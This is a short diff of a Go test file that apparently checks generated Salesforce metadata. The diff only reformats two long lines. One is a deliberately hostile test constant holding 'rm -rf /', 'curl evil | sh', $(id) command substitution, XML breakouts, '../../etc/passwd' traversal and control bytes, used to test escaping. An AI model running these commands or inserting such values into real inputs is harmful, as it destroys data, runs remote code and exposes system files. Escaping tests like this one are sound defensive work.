@@ -37,7 +37,8 @@ func withoutAPI(user string) audit.Finding {
 }
 
 // forged is a name that attacks the files that it lands in: lines, XML, shells, paths, directions.
-const forged = "x\n4. rm -rf / </label><userPermissions> ]]> '; curl evil | sh #$(id)`id` ../../etc/passwd \u202e\x00\xff"
+const forged = "x\n4. rm -rf / </label><userPermissions> ]]> '; curl evil | sh #$(id)`id` ../../etc/passwd " +
+	"\u202e\x00\xff"
 
 func TestProject(t *testing.T) {
 	only := withoutAPI("zoe@acme.example")
@@ -98,7 +99,8 @@ func read(t *testing.T, dir string) *txtar.Archive {
 			var any struct {
 				XMLName xml.Name
 			}
-			if err := xml.Unmarshal(data, &any); err != nil || any.XMLName.Space != "http://soap.sforce.com/2006/04/metadata" {
+			if err := xml.Unmarshal(data, &any); err != nil ||
+				any.XMLName.Space != "http://soap.sforce.com/2006/04/metadata" {
 				t.Errorf("%s: %v, %v", name, any, err)
 			}
 		}
